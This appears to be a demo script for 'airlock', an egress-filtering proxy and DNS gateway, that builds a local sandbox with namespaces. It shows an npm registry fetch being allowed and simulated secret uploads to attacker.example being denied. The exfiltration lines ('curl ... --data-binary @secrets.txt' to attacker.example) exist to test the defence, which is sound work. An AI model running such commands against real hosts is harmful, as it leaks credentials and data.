#!/usr/bin/env bash
# The main job, shown once: airlock with its embedded default policy guards a sandbox
# network namespace. The sandbox makes one allowed request (npm's registry) and tries
# to send a file to an attacker's host; then the decision log explains what happened.
#
# Everything runs in namespaces this script creates and removes: a sandbox, a gateway
# where airlock runs, and a small "internet" with a real DNS server (unbound) and real
# HTTPS origins (nginx) for registry.npmjs.org and attacker.example. No traffic leaves
# this machine. Needs root.
set -euo pipefail
top=$(cd "$(dirname "$0")/.." && pwd)
AIRLOCK=${AIRLOCK:-$top/build/release/app/airlock}
if [[ ! -x $AIRLOCK ]]; then
  echo "demo: $AIRLOCK is missing; build first: cmake --workflow --preset build" >&2
  exit 1
fi
if [[ $(id -u) -ne 0 ]]; then
  echo "demo: needs root (it creates network namespaces)" >&2
  exit 1
fi

WORLD_RECORDS="registry.npmjs.org 203.0.113.10
attacker.example 203.0.113.66"
WORLD_CERT_NAMES="registry.npmjs.org attacker.example"
source "$top/tests/e2e/lib/world.sh"

bold=$'\e[1m' dim=$'\e[2m' off=$'\e[0m'
[[ -t 1 ]] || bold='' dim='' off=''
step() { printf '\n%s== %s%s\n' "$bold" "$*" "$off"; }
show() { printf '%s$ %s%s\n' "$dim" "$*" "$off"; }

step "Setting up: sandbox -> gateway (airlock) -> a small local internet"
world_up 2>/dev/null
echo "sandbox $SBX_IP; airlock on the gateway $GW_SBX_IP; registry.npmjs.org is a local nginx at $ORIGIN_IP,"
echo "attacker.example another at $ATTACKER_IP; unbound at $DNS_IP answers for both."
echo "The gateway's nft table (airlock nft-rules) sends the sandbox's TCP to airlock's proxy and its DNS"
echo "to airlock's DNS server, and drops everything else. airlock runs with NO config file:"
show "airlock daemon --log $W/decisions.jsonl"
world_start_airlock --log "$W/decisions.jsonl"
sed 's/^/  /' "$W/airlock.stderr"

step "1. Allowed: the sandbox fetches from npm's registry over HTTPS"
show "curl https://registry.npmjs.org/airlock-demo"
world_sbx curl -sS --max-time 10 --cacert "$W/ca.crt" https://registry.npmjs.org/airlock-demo | sed 's/^/  /'

step "2. Denied: a postinstall script tries to upload a file to attacker.example"
echo "secret-token-1234" >"$W/secrets.txt"
show "curl https://attacker.example/upload --data-binary @secrets.txt"
world_sbx curl -sS --max-time 10 --cacert "$W/ca.crt" https://attacker.example/upload \
  --data-binary @"$W/secrets.txt" 2>&1 | sed 's/^/  /' || true

step "3. Denied: the same upload with a hard-coded address, skipping DNS"
show "curl --resolve attacker.example:443:$ATTACKER_IP https://attacker.example/upload ..."
world_sbx curl -sS --max-time 10 --cacert "$W/ca.crt" --resolve "attacker.example:443:$ATTACKER_IP" \
  https://attacker.example/upload --data-binary @"$W/secrets.txt" 2>&1 | sed 's/^/  /' || true

kill -TERM "$AIRLOCK_PID"
wait "$AIRLOCK_PID" || true

step "The decision log ($W/decisions.jsonl), one JSON line per decision:"
python3 - "$W/decisions.jsonl" "$W/attacker-access.log" <<'PY'
import json, os, sys
meaning = {
    "host_allowed": "an allow rule of the policy names this host",
    "host_not_allowed": "no rule allows this name: denied by default",
    "dst_mismatch": "allowed, but sent to airlock's own resolution, not the address the client chose",
    "no_name": "no name to judge (no SNI, no Host) and no address rule",
}
for raw in open(sys.argv[1]):
    d = json.loads(raw)
    if d["event"] == "session":  # the sessions of the default policy, opened and closed with airlock
        if d["action"] == "close":
            print(f'  session {d["session"]:4} closed: {d["dns_queries"]} DNS queries, {d["connections_allowed"]} '
                  f'connection(s) allowed, {d["connections_denied"]} denied, {d["bytes_up"]} bytes up, '
                  f'{d["bytes_down"]} down')
        else:
            print(f'  session {d["session"]:4} {d["action"]}: policy {d["policy"]} for {" ".join(d["sources"])}')
        continue
    if d["event"] == "dns" and d["qtype"] != "A":
        continue  # AAAA twins of the A lookups; same verdicts
    what = f'{d["event"]:7} {d["verdict"]:5} {d["name"] or d["dst"]}'
    if d["event"] == "dns":
        what += f' ({d["qtype"]} -> {" ".join([d["rcode"]] + d["answers"])})'
    else:
        what += f' ({d["proto"]} to {d["dst"]}, upstream {d["upstream"] or "none"})'
    print(f'  {what}\n      reason {d["reason"]}: {meaning.get(d["reason"], "")}; rule {d["rule"]}')
print()
for raw in open(sys.argv[1]):
    print("  " + raw.rstrip())
hits = os.path.getsize(sys.argv[2])
print(f"\n  attacker.example's access log: {'EMPTY - nothing reached it' if hits == 0 else 'NOT EMPTY'}")
PY

cat <<TXT

${bold}What happened${off}
  1. registry.npmjs.org is in the default policy: its DNS query was answered and its
     HTTPS connection relayed to the address airlock resolved itself.
  2. attacker.example is in no rule: airlock's DNS answered NXDOMAIN without asking the
     upstream (so nothing leaks through DNS either) and curl could not even resolve it.
  3. With a hard-coded address, the connection still went through airlock's proxy, which
     read the name from the TLS ClientHello, denied it, and answered with a TLS alert.
Try: airlock check --print-default    (the policy used here)
     airlock test --policy default attacker.example:443
TXT
